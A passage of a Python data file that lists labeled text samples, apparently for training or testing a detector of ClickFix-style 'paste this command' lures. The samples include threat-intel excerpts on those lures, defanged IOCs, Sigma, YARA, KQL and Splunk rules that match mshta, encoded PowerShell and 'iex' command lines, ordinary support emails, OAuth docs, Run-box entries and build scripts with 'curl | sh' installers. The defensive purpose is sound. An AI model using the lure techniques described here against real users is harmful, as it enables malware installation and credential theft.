        'Hunting query: look for HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU values containing mshta, powershell, curl or "verification".',
    ),
    (
        WRITEUP,
        "The FileFix variant asks the victim to paste a path into File Explorer's address bar. The path hides a PowerShell command behind spaces and a fake file name, e.g. C:\\company\\internal-secure\\filedrive\\HRPolicy.docx.",
    ),
    (
        WRITEUP,
        "IOCs (defanged):\n- hxxps://verify-human[.]test/cf.js\n- 203.0.113[.]45\n- update-check[.]invalid\nSHA256: 3f786850e387550fdab836ed7e6dc881de23001b",
    ),
    (
        WRITEUP,
        "Why it works: the page never downloads a file, so browser download protections never trigger; the user runs the command themselves, which is why the technique is tracked as T1204.004 (Malicious Copy and Paste).",
    ),
    (
        "https://redcanary.com/blog/threat-intelligence/intelligence-insights-2025/",
        "We saw adversaries abuse `curl | bash` one-liners on macOS lure pages that posed as Homebrew install instructions; the script then ran osascript to prompt for the user's password.",
    ),
    (
        "https://www.huntress.com/blog/",
        "Recommendation: disable the Run dialog via Group Policy (User Configuration > Administrative Templates > Start Menu and Taskbar > Remove Run menu from Start Menu) for users who do not need it.",
    ),
    (
        "https://www.proofpoint.com/us/blog/threat-insight/",
        'The lure impersonated a Microsoft Word error: "The extension \'Word Online\' is not installed" with a "How to fix" button that copied a PowerShell script to the clipboard.',
    ),
    (
        "https://attack.mitre.org/techniques/T1204/004/",
        "Adversaries may rely on a user copying and pasting code in order to gain execution. Users may be subjected to social engineering to get them to copy and paste code directly into a Windows Run dialog, a terminal, or a browser console.",
    ),
    (
        "https://attack.mitre.org/techniques/T1218/005/",
        "Mshta.exe is a utility that executes Microsoft HTML Applications (HTA) files. Adversaries may abuse mshta.exe to proxy execution of malicious .hta files and Javascript or VBScript through a trusted Windows utility.",
    ),
    (
        "https://www.sekoia.io/en/blog/",
        "Sigma rule excerpt:\n  selection:\n    Image|endswith: '\\mshta.exe'\n    CommandLine|contains: 'http'\n  condition: selection",
    ),
    (
        "https://www.bleepingcomputer.com/news/security/",
        'Users are advised never to paste commands from websites into the Run box, PowerShell, or Terminal, even when a page claims it is a "verification step".',
    ),
    (
        "https://www.example.com/soc/runbook/clickfix",
        "Triage steps:\n1. Pull the RunMRU key for the user.\n2. Check Sysmon event 1 for powershell.exe with parent explorer.exe.\n3. Isolate the host if a child process reached out to a new domain.",
    ),
    (
        "https://www.example.com/soc/runbook/clickfix",
        'YARA:\nrule clickfix_clipboard_js {\n  strings:\n    $a = "navigator.clipboard.writeText"\n    $b = "I am not a robot"\n  condition:\n    all of them\n}',
    ),
    (
        "https://www.zscaler.com/blogs/security-research/",
        "Stage 1 is a fake reCAPTCHA; stage 2 is an HTA fetched with mshta; stage 3 drops Lumma Stealer. The command the user pastes is padded so that only the trailing comment shows in the Run box.",
    ),
    (
        "https://www.guardio.io/blog",
        'The "Verify you are human" overlay wrote text to the clipboard silently. Our extension now warns when a page writes to the clipboard without a user copy gesture.',
    ),
    (
        "https://www.example.com/blog/2026/macos-stealer-lures",
        "AMOS-style lures ask macOS users to open Terminal and paste a base64 string piped to bash; the decoded script asks for the login password with an osascript dialog and exfiltrates the keychain.",
    ),
    (
        "https://www.example.com/blog/2026/oauth-consent-phishing",
        "In ConsentFix, the victim is asked to copy the full localhost redirect URL (which contains the authorization code) back into the phishing page, handing the attacker a token.",
    ),
    (
        "https://www.cisa.gov/news-events/cybersecurity-advisories",
        "Mitigations: Train users to recognize social engineering that asks them to run commands. Restrict PowerShell with Constrained Language Mode and enable script block logging (Event ID 4104).",
    ),
    (
        "https://www.example.com/blog/2026/detection-engineering",
        'KQL:\nDeviceProcessEvents\n| where InitiatingProcessFileName =~ "explorer.exe"\n| where FileName in~ ("powershell.exe", "mshta.exe", "cmd.exe")\n| where ProcessCommandLine has_any ("http", "iex", "-enc")',
    ),
    (
        "https://www.example.com/blog/2026/detection-engineering",
        'Splunk: index=wineventlog EventCode=4688 New_Process_Name="*\\\\mshta.exe" | stats count by Account_Name, Process_Command_Line',
    ),
    (
        "https://news.ycombinator.com/item?id=41234567",
        'Honestly the scariest part of these fake captcha pages is how normal "press Win+R and paste" sounds to a non-technical person. My dad almost did it.',
    ),
    (
        "https://www.reddit.com/r/sysadmin/comments/1abcxyz/",
        "PSA: we had three users hit the fake Cloudflare verification page this week. Blocking mshta.exe via AppLocker stopped the payload from running.",
    ),
]

# -- (e) support mails and order confirmations with phone numbers ---------------------------------

MAILS = [
    (
        "outlook",
        "Thank you for your order #A-48213. Your package will ship within 2 business days. Questions? Call our customer service team at (555) 013-4477, Monday-Friday 8am-6pm ET.",
    ),
    (
        "outlook",
        "Hi Dana,\n\nYour ticket INC0041982 (printer on floor 3) has been resolved. If the issue returns, reply to this email or call the IT service desk on +1 555-010-2290.\n\nRegards,\nHarrowfield IT",
    ),
    (
        "outlook",
        "Reminder: your dental appointment is on Tuesday, Dec 9 at 10:30 AM. To reschedule please call 555-0148 at least 24 hours in advance.",
    ),
    (
        "thunderbird",
        "Your Quillmere subscription renews on 01/14/2027 for $9.99. You can manage or cancel it any time in Account > Billing. Need help? support@quillmere.example or 1-555-010-7788.",
    ),
    (
        "https://mail.google.com/mail/u/0/#inbox",
        "Booking confirmed: Hotel Harrowfield, 2 nights, check-in Dec 12 from 3 PM. Front desk: +1 (555) 010-3321. Confirmation code: HX7Q2P.",
    ),
    (
        "https://mail.google.com/mail/u/0/#inbox",
        "Your flight QM 418 departs at 07:45 from gate B12. Manage your booking online or call reservations at 555-010-9090.",
    ),
    (
        "https://outlook.office.com/mail/",
        "New hire checklist: laptop pickup Monday 9am at the IT desk (room 2.14). Your temporary password will be sent to your manager. Helpdesk ext. 5550 or (555) 010-5550.",
    ),
    (
        "https://outlook.office.com/mail/",
        "Scheduled maintenance: VPN will be unavailable Saturday 22:00-02:00. No action is needed on your side. Questions: servicedesk@harrowfield.example / +44 20 7946 0018.",
    ),
    (
        "slack",
        "Hey, the wifi password for the guest network is on the whiteboard. If it doesn't work ping facilities at 555-0199.",
    ),
    (
        "slack",
        "FYI the on-call number changed, it's now +1-555-010-4040 (PagerDuty forwards it). Please update your runbooks.",
    ),
    ("teams", "Meeting moved to 3pm. Dial-in: +1 555-010-6000, conference ID 482 113 907#"),
    (
        "outlook",
        "Your pharmacy order is ready for pickup. Store hours 8am-9pm. Call 555-010-2525 with questions about your prescription.",
    ),
    (
        "outlook",
        "We received your return for order 1182-3345. Your refund of $42.10 will appear on your statement within 5-7 business days. Customer care: (555) 010-8181.",
    ),
    (
        "https://mail.yahoo.com/",
        "Your Harrowfield Bank statement for November is available in online banking. We will never ask you for your password or one-time code by phone or email. Card services: 555-010-1200.",
    ),
    (
        "outlook",
        "Hello,\nThis is a reminder that your Windows laptop is due for its quarterly update. IT will push the updates automatically tonight; please leave it plugged in. No need to call us unless it fails to restart: 555-010-3003.",
    ),
    (
        "outlook",
        "Delivery update: your parcel 1Z999AA10123456784 is out for delivery today between 10:00 and 14:00. Track it in the app or call 555-010-7000.",
    ),
    (
        "outlook",
        "Order confirmation\nItem: USB-C dock (x1)\nTotal: $129.00\nPayment: Visa ending 4242\nShipping to: 123 Example St, Springfield\nQuestions: call 1-555-010-4321 or visit our Help Center.",
    ),
    (
        "outlook",
        'Your support case #88213 with Quillmere Software has been updated. Technician note: "Please restart the sync client and send us the log file from %LOCALAPPDATA%\\Quillmere\\logs." Phone support: 555-010-6677.',
    ),
    (
        "https://mail.google.com/mail/u/0/#inbox",
        "Hi! Thanks for registering for the workshop on Dec 15. Parking is in lot C. If you get lost call Sam at 555-010-2468.",
    ),
    (
        "outlook",
        'Security notice from Harrowfield IT: we have seen fake "verify you are human" pages asking people to press Windows+R and paste a command. Never do this. If you already did, call the service desk immediately on 555-010-9111.',
    ),
]

# -- (f) OAuth/OIDC docs --------------------------------------------------------------------------

OAUTH = [
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "https://accounts.google.com/o/oauth2/v2/auth?scope=email%20profile&response_type=code&state=security_token%3D138r5719ru3e1%26url%3Dhttps%3A%2F%2Foauth2.example.com%2Ftoken&redirect_uri=http%3A%2F%2F127.0.0.1%3A9004&client_id=client_id",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "http://127.0.0.1:9004?code=4/P7q7W91a-oMsCeLvIaQm6bTrgtp7&scope=email%20profile",
    ),
    (
        "https://www.oauth.com/oauth2-servers/authorization/the-authorization-response/",
        "https://example-app.com/cb?code=Yzk5ZDczMzRlNDEwY&state=5ca75bd30",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "https://login.microsoftonline.com/{tenant}/oauth2/v2.0/authorize?client_id=00001111-aaaa-2222-bbbb-3333cccc4444&response_type=code&redirect_uri=http%3A%2F%2Flocalhost%2Fmyapp%2F&response_mode=query&scope=https%3A%2F%2Fgraph.microsoft.com%2Fmail.read&state=12345&code_challenge=YTFjNjI1OWYzMzA3MTI4ZDY2Njg5M2RkNmVjNDE5YmEyZGRhOGYyM2IzNjdmZWFhMTQ1ODg3NDcxY2Nl&code_challenge_method=S256",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "POST /{tenant}/oauth2/v2.0/token HTTP/1.1\nHost: https://login.microsoftonline.com\nContent-Type: application/x-www-form-urlencoded\n\nclient_id=00001111-aaaa-2222-bbbb-3333cccc4444\n&scope=https%3A%2F%2Fgraph.microsoft.com%2Fmail.read\n&code=OAAABAAAAiL9Kn2Z27UubvWFPbm0gLWQJVzCTE9UkP3pSx1aXxUjq3n8b2JRLk4OxVXr...\n&redirect_uri=http%3A%2F%2Flocalhost%2Fmyapp%2F\n&grant_type=authorization_code\n&code_verifier=ThisIsntRandomButItNeedsToBe43CharactersLong",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code FKQW4XJZ2 to authenticate.",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "curl -X POST https://login.microsoftonline.com/common/oauth2/v2.0/devicecode -d 'client_id=00001111-aaaa-2222-bbbb-3333cccc4444&scope=user.read%20openid%20profile'",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "https://github.com/login/oauth/authorize?client_id=Iv1.8a61f9b3a7aba766&redirect_uri=http://localhost:3000/auth/callback&scope=read:user&state=af0ifjsldkj",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "! First copy your one-time code: 8F3A-21C9\nPress Enter to open github.com in your browser...",
    ),
    ("https://cli.github.com/manual/gh_auth_login", "gh auth login --web --hostname github.com"),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow-with-pkce",
        "https://{yourDomain}/authorize?response_type=code&code_challenge={codeChallenge}&code_challenge_method=S256&client_id={yourClientId}&redirect_uri={yourCallbackUrl}&scope=SCOPE&audience={apiAudience}&state={state}",
    ),
    (
        "https://www.keycloak.org/docs/latest/server_admin/",
        "http://localhost:8080/realms/myrealm/protocol/openid-connect/auth?client_id=myclient&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&response_type=code&scope=openid",
    ),
    (
        "https://developer.okta.com/docs/guides/implement-grant-type/authcode/main/",
        "curl --request POST --url https://${yourOktaDomain}/oauth2/default/v1/token --header 'accept: application/json' --header 'content-type: application/x-www-form-urlencoded' --data 'grant_type=authorization_code&redirect_uri=${redirectUri}&code=${code}'",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc6749#section-4.1.2",
        "HTTP/1.1 302 Found\nLocation: https://client.example.com/cb?code=SplxlOBeZQQYbYS6WxSbIA&state=xyz",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8628",
        "The verification URI is https://example.com/device and the user code is WDJB-MJHT. The user visits the URI on another device and enters the code.",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/auth/login",
        "Go to the following link in your browser, and complete the sign-in prompts:\n\n    https://accounts.google.com/o/oauth2/auth?response_type=code&client_id=32555940559.apps.googleusercontent.com&redirect_uri=https%3A%2F%2Fsdk.cloud.google.com%2Fauthcode.html&scope=openid&code_challenge_method=S256",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/sso-configure-profile-token.html",
        "aws sso login --profile my-dev-profile",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/sso-configure-profile-token.html",
        "Attempting to automatically open the SSO authorization page in your default browser.\nIf the browser does not open, open the following URL:\n\nhttps://device.sso.us-west-2.amazonaws.com/\n\nThen enter the code:\n\nQCFK-N451",
    ),
    (
        "https://fastapi.tiangolo.com/tutorial/security/oauth2-jwt/",
        'curl -X POST http://127.0.0.1:8000/token -H "Content-Type: application/x-www-form-urlencoded" -d "username=johndoe&password=secret"',
    ),
    (
        "https://next-auth.js.org/configuration/providers/oauth",
        "http://localhost:3000/api/auth/callback/github",
    ),
]

# -- (g) Run-box and Explorer entries people type ------------------------------------------------

IT_WIKI = "https://intranet.harrowfield.example/it/kb/shortcuts"
RUNBOX = [
    "control",
    "control printers",
    "control /name Microsoft.DeviceManager",
    "control netconnections",
    "control userpasswords2",
    "control sysdm.cpl,,3",
    "appwiz.cpl",
    "ncpa.cpl",
    "inetcpl.cpl",
    "mmsys.cpl",
    "ms-settings:windowsupdate",
    "ms-settings:display",
    "ms-settings:network-wifi",
    "ms-settings:privacy-microphone",
    "%appdata%",
    "%localappdata%\\Temp",
    "%temp%",
    "shell:startup",
    "shell:common startup",
    "shell:sendto",
    "shell:downloads",
    "shell:appsfolder",
    "devmgmt.msc",
    "services.msc",
    "compmgmt.msc",
    "diskmgmt.msc",
    "gpedit.msc",
    "eventvwr.msc",
    "lusrmgr.msc",
    "certmgr.msc",
    "regedit",
    "msconfig",
    "msinfo32",
    "resmon",
    "perfmon /rel",
    "cmd",
    "powershell",
    "wt",
    "notepad C:\\Windows\\System32\\drivers\\etc\\hosts",
    "\\\\fileserver01\\shared",
    "\\\\fs02.corp.harrowfield.example\\Finance\\Reports",
    "mstsc /v:ts01.corp.harrowfield.example",
    "mstsc /v:198.51.100.40 /admin",
    "ping -t 192.0.2.1",
    "cleanmgr",
    "winver",
    "dxdiag",
    "osk",
    "calc",
    "snippingtool",
    "explorer .",
    "explorer shell:RecycleBinFolder",
    "cmd /k ipconfig /all",
    "rundll32.exe sysdm.cpl,EditEnvironmentVariables",
    "taskschd.msc",
    "mmc compmgmt.msc /computer=PC-0142",
    "outlook /safe",
    "winword /safe",
    "excel /safe",
    "firewall.cpl",
    "powercfg.cpl",
    "timedate.cpl",
    "C:\\Program Files",
    "C:\\Users\\Public\\Documents",
    "%userprofile%\\Downloads",
    "%ProgramData%\\Microsoft\\Windows\\Start Menu\\Programs",
    "msedge --inprivate",
    "chrome --incognito",
    "mspaint",
    "write",
    "magnify",
    "narrator",
]
EXPLORER = [
    "%appdata%\\Microsoft\\Teams",
    "\\\\fileserver01\\shared\\HR\\Forms",
    "shell:startup",
    "C:\\Windows\\Temp",
    "%localappdata%\\Packages",
    "\\\\nas01\\photos\\2026",
    "ftp://ftp.gnu.org/gnu/",
    "shell:::{20D04FE0-3AEA-1069-A2D8-08002B30309D}",
    "Control Panel\\All Control Panel Items\\Power Options",
    "This PC\\Documents",
    "%userprofile%\\OneDrive - Harrowfield",
    "C:\\ProgramData\\Quillmere\\logs",
    "D:\\Projects\\2026-Q4\\Specs",
    "\\\\tsclient\\C",
    "shell:fonts",
]

# -- (h) config/log snippets, stack traces, CI YAML, Dockerfiles, Makefiles, crontab ------------

SNIPPETS = [
    (
        "https://docs.github.com/en/actions/writing-workflows/quickstart",
        "name: CI\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install uv\n        run: curl -LsSf https://astral.sh/uv/install.sh | sh\n      - run: uv sync && uv run pytest",
    ),
    (
        "https://github.com/quillmere/api-server/blob/main/.github/workflows/ci.yml",
        "      - name: Install Rust\n        run: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal",
    ),
    (
        "https://docs.gitlab.com/ee/ci/yaml/",
        "test:\n  image: node:22\n  before_script:\n    - corepack enable\n    - pnpm install --frozen-lockfile\n  script:\n    - pnpm test",
    ),
    (
        "https://docs.gitlab.com/ee/ci/yaml/",
        "deploy:\n  stage: deploy\n  script:\n    - curl -sSL https://get.docker.com | sh\n    - docker compose -f compose.prod.yml up -d\n  only:\n    - main",
    ),
    (
        "https://github.com/harrowfield/service/blob/main/Dockerfile",
        'FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates \\\n    && curl -LsSf https://astral.sh/uv/install.sh | sh \\\n    && rm -rf /var/lib/apt/lists/*\nENV PATH="/root/.local/bin:$PATH"',
    ),
    (
        "https://github.com/harrowfield/service/blob/main/Dockerfile",
        "FROM node:22-alpine AS build\nWORKDIR /app\nCOPY package.json pnpm-lock.yaml ./\nRUN corepack enable && pnpm install --frozen-lockfile\nCOPY . .\nRUN pnpm build",
    ),
    (
        "https://github.com/harrowfield/service/blob/main/Dockerfile",
        "RUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash - && apt-get install -y nodejs",
    ),
    (
        "https://github.com/harrowfield/service/blob/main/Makefile",
        ".PHONY: install test lint\ninstall:\n\tpython -m pip install -e '.[dev]'\ntest:\n\tpytest -q\nlint:\n\truff check . && mypy app",
    ),
    (
        "https://github.com/harrowfield/service/blob/main/Makefile",
        "tools:\n\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(GOPATH)/bin v1.61.0",
    ),
    ("https://crontab.guru/", "*/5 * * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1"),
    (
        "https://crontab.guru/",
        "0 3 * * 0 certbot renew --quiet --deploy-hook 'systemctl reload nginx'",
    ),
    (
        "https://stackoverflow.com/questions/tagged/cron",
        "@reboot sleep 30 && cd /home/pi/app && /usr/bin/python3 main.py >> /home/pi/app.log 2>&1",
    ),
    (
        "https://stackoverflow.com/questions/tagged/python",
        "Traceback (most recent call last):\n  File \"/home/me/app/main.py\", line 12, in <module>\n    import requests\nModuleNotFoundError: No module named 'requests'",
    ),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "powershell : File C:\\Users\\me\\Documents\\WindowsPowerShell\\profile.ps1 cannot be loaded because running scripts is disabled on this system. For more information, see about_Execution_Policies at https:/go.microsoft.com/fwlink/?LinkID=135170.",
    ),
    (
        "https://github.com/harrowfield/service/issues/412",
        'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "s" is null\n\tat com.harrowfield.Util.trim(Util.java:42)\n\tat com.harrowfield.Main.main(Main.java:10)',
    ),
    (
        "https://github.com/harrowfield/service/issues/418",
        "npm ERR! code EACCES\nnpm ERR! syscall mkdir\nnpm ERR! path /usr/local/lib/node_modules/pnpm\nnpm ERR! errno -13",
    ),
    (
        "https://github.com/harrowfield/service/issues/420",
        "2026-12-06T23:14:02.118Z ERROR [worker-3] Failed to connect to redis://10.0.0.12:6379: ECONNREFUSED\n2026-12-06T23:14:03.120Z INFO  [worker-3] Retrying in 1000ms",
    ),
    (
        "https://nginx.org/en/docs/",
        "server {\n    listen 443 ssl;\n    server_name harrowfield.example;\n    location / {\n        proxy_pass http://127.0.0.1:8000;\n        proxy_set_header Host $host;\n    }\n}",
    ),
    (
        "https://docs.docker.com/compose/compose-file/",
        'services:\n  web:\n    image: ghcr.io/harrowfield/web:1.4.2\n    ports: ["8080:8080"]\n    environment:\n      - DATABASE_URL=postgres://app:app@db:5432/app\n  db:\n    image: postgres:16',
    ),
    (
        "https://kubernetes.io/docs/concepts/workloads/pods/",
        'apiVersion: v1\nkind: Pod\nmetadata:\n  name: debug\nspec:\n  containers:\n  - name: shell\n    image: busybox:1.36\n    command: ["sh", "-c", "sleep 3600"]',
    ),
    (
        "https://github.com/harrowfield/service/blob/main/.env.example",
        "DATABASE_URL=postgres://user:password@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0\nSECRET_KEY=change-me\nDEBUG=true",
    ),
    (
        "https://github.com/harrowfield/service/blob/main/setup.sh",
        "#!/usr/bin/env bash\nset -euo pipefail\ncommand -v uv >/dev/null || curl -LsSf https://astral.sh/uv/install.sh | sh\nuv sync\nuv run pre-commit install",
    ),
    (
        "https://github.com/harrowfield/win-service/blob/main/build.ps1",
        "$ErrorActionPreference = 'Stop'\nif (-not (Get-Command dotnet -ErrorAction SilentlyContinue)) {\n  Write-Error 'Install the .NET 8 SDK first'\n}\ndotnet publish -c Release -r win-x64 --self-contained",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/msi/event-logging",
        "MSI (s) (A4:3C) [10:12:44:512]: Product: Quillmere Sync -- Installation completed successfully.\nMSI (s) (A4:3C) [10:12:44:513]: Windows Installer installed the product. Product Name: Quillmere Sync. Product Version: 4.2.0.",
    ),
    (
        "https://github.com/harrowfield/service/blob/main/.pre-commit-config.yaml",
        "repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.7.2\n    hooks:\n      - id: ruff\n      - id: ruff-format",
    ),
    (
        "https://github.com/harrowfield/service/blob/main/Vagrantfile",
        'config.vm.provision "shell", inline: <<-SHELL\n  apt-get update\n  curl -fsSL https://get.docker.com | sh\n  usermod -aG docker vagrant\nSHELL',
    ),
    (
        "https://github.com/harrowfield/service/blob/main/.bashrc",
        'export PATH="$HOME/.cargo/bin:$HOME/.local/bin:$PATH"\nalias ll=\'ls -alF\'\n[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
    ),
    (
        "https://github.com/harrowfield/ansible/blob/main/roles/base/tasks/main.yml",
        "- name: Install packages\n  ansible.builtin.apt:\n    name: [curl, git, htop]\n    state: present\n    update_cache: true",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/win32/eventlog/event-logging",
        "Log Name: System\nSource: Service Control Manager\nEvent ID: 7036\nLevel: Information\nDescription: The Windows Update service entered the running state.",
    ),
    (
        "https://github.com/harrowfield/service/blob/main/README.md",
        "## Quick start\n\n```bash\ngit clone https://github.com/harrowfield/service.git\ncd service\nmake install\nmake run\n```\nThen open http://localhost:8000 in your browser.",
    ),
]


# -- a second round, written after the first scan, of the same kinds

WIN2 = [
    (
        "https://learn.microsoft.com/en-us/windows/terminal/",
        "Get-ChildItem Env: | Sort-Object Name",
    ),
    (
        "https://www.powershellgallery.com/packages/PSWindowsUpdate",
        "Install-Module PSWindowsUpdate -Force; Get-WindowsUpdate -Install -AcceptAll -AutoReboot",
    ),
    (
        "https://answers.microsoft.com/en-us/windows/forum/all/start-menu-not-working/",
        'Get-AppxPackage -AllUsers | Foreach {Add-AppxPackage -DisableDevelopmentMode -Register "$($_.InstallLocation)\\AppXManifest.xml"}',
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-server/networking/",
        "netsh winhttp reset proxy",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/dnsclient/clear-dnsclientcache",
        "Clear-DnsClientCache",
    ),
    (
        "https://superuser.com/questions/tagged/networking",
        "Get-NetAdapter | Restart-NetAdapter -Confirm:$false",
    ),
    (
        "https://learn.microsoft.com/en-us/microsoftteams/troubleshoot/teams-administration/clear-teams-cache",
        'Stop-Process -Name ms-teams -Force; Remove-Item -Path "$env:LOCALAPPDATA\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\*" -Recurse -Force',
    ),
    (
        "https://superuser.com/questions/tagged/windows-explorer",
        'Set-ItemProperty -Path "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced" -Name HideFileExt -Value 0',
    ),
    (
        "https://www.elevenforum.com/t/restore-classic-context-menu-in-windows-11.1717/",
        'reg add "HKCU\\Software\\Classes\\CLSID\\{86ca1aa0-34aa-4e8b-a509-50c905bae2a2}\\InprocServer32" /f /ve',
    ),
    (
        "https://www.elevenforum.com/t/restore-classic-context-menu-in-windows-11.1717/",
        'reg delete "HKCU\\Software\\Classes\\CLSID\\{86ca1aa0-34aa-4e8b-a509-50c905bae2a2}" /f',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/deployment/update/waas-wu-settings",
        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU" /v NoAutoRebootWithLoggedOnUsers /t REG_DWORD /d 1 /f',
    ),
    ("https://superuser.com/questions/tagged/hibernate", "powercfg -h off"),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-computerinfo",
        "Get-ComputerInfo | Select-Object OsName, OsVersion, CsProcessors",
    ),
    ("https://learn.microsoft.com/en-us/windows/wsl/basic-commands", "wsl --shutdown"),
    ("https://learn.microsoft.com/en-us/windows/wsl/basic-commands", "wsl --update"),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/gallery/powershellget/update-powershell-51",
        "Install-PackageProvider -Name NuGet -MinimumVersion 2.8.5.201 -Force",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-eventlog",
        "Get-EventLog -LogName System -EntryType Error -Newest 20",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-hotfix",
        "Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_install_firstuse",
        "Start-Service sshd\nSet-Service -Name sshd -StartupType 'Automatic'",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/openssh/openssh_install_firstuse",
        "New-NetFirewallRule -Name 'OpenSSH-Server-In-TCP' -DisplayName 'OpenSSH Server (sshd)' -Enabled True -Direction Inbound -Protocol TCP -Action Allow -LocalPort 22",
    ),
    (
        "https://answers.microsoft.com/en-us/windows/forum/all/clear-temp-files/",
        "del /s /q %temp%\\*",
    ),
    (
        "https://answers.microsoft.com/en-us/windows/forum/all/usb-files-hidden/",
        "attrib -h -r -s /s /d E:\\*.*",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/chkdsk",
        "chkdsk C: /f /r",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/installing-updates-features-roles/additional-resources-for-windows-update",
        "net stop wuauserv\nnet stop bits\nren C:\\Windows\\SoftwareDistribution SoftwareDistribution.old\nnet start wuauserv\nnet start bits",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/get-started/activation-slmgr-vbs-options",
        "slmgr /xpr",
    ),
    (
        "https://learn.microsoft.com/en-us/office/troubleshoot/activation/",
        'cscript "C:\\Program Files\\Microsoft Office\\Office16\\OSPP.VBS" /dstatus',
    ),
    ("https://superuser.com/questions/tagged/cmd", "taskkill /f /im ms-teams.exe"),
    (
        "https://superuser.com/questions/tagged/cmd",
        'setx JAVA_HOME "C:\\Program Files\\Eclipse Adoptium\\jdk-21.0.5.11-hotspot"',
    ),
    ("https://superuser.com/questions/tagged/cmd", "where python && py -0p"),
    (
        "https://superuser.com/questions/tagged/cmd",
        'runas /user:HARROWFIELD\\adm-dana "mmc compmgmt.msc"',
    ),
    (
        "https://superuser.com/questions/tagged/cmd",
        'mklink /D "C:\\Users\\me\\Documents\\Projects" "D:\\Projects"',
    ),
    ("https://superuser.com/questions/tagged/cmd", "tar -xf .\\release.zip -C .\\out"),
    ("https://superuser.com/questions/tagged/cmd", "curl -I https://harrowfield.example"),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/psexec",
        "psexec \\\\PC-0142 -s ipconfig /all",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/operating-system-security/data-protection/bitlocker/",
        "manage-bde -protectors -get C:",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-hardware/manufacture/desktop/dism-operating-system-package-servicing-command-line-options",
        "DISM /Online /Get-Packages /Format:Table",
    ),
    ("https://stackoverflow.com/questions/tagged/powershell", "$PSVersionTable.PSVersion"),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "[System.Convert]::ToBase64String([System.Text.Encoding]::UTF8.GetBytes('user:token'))",
    ),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGVsbG8gd29ybGQ='))",
    ),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "Get-Clipboard | Set-Content .\\notes.txt",
    ),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "Invoke-WebRequest -Uri https://harrowfield.example/api/health -UseBasicParsing | Select-Object StatusCode",
    ),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "Invoke-RestMethod -Method Post -Uri https://api.harrowfield.example/v1/jobs -Headers @{Authorization = \"Bearer $env:API_TOKEN\"} -Body (@{name='nightly'} | ConvertTo-Json) -ContentType 'application/json'",
    ),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "Get-WmiObject -Class Win32_Product | Where-Object Name -like '*Java 8*' | ForEach-Object { $_.Uninstall() }",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/client-management/manage-settings-app-with-group-policy",
        "Start-Process 'ms-settings:windowsupdate'",
    ),
    (
        "https://github.com/microsoft/winget-cli/discussions/",
        "winget export -o C:\\Temp\\apps.json && winget import -i C:\\Temp\\apps.json --accept-package-agreements",
    ),
    (
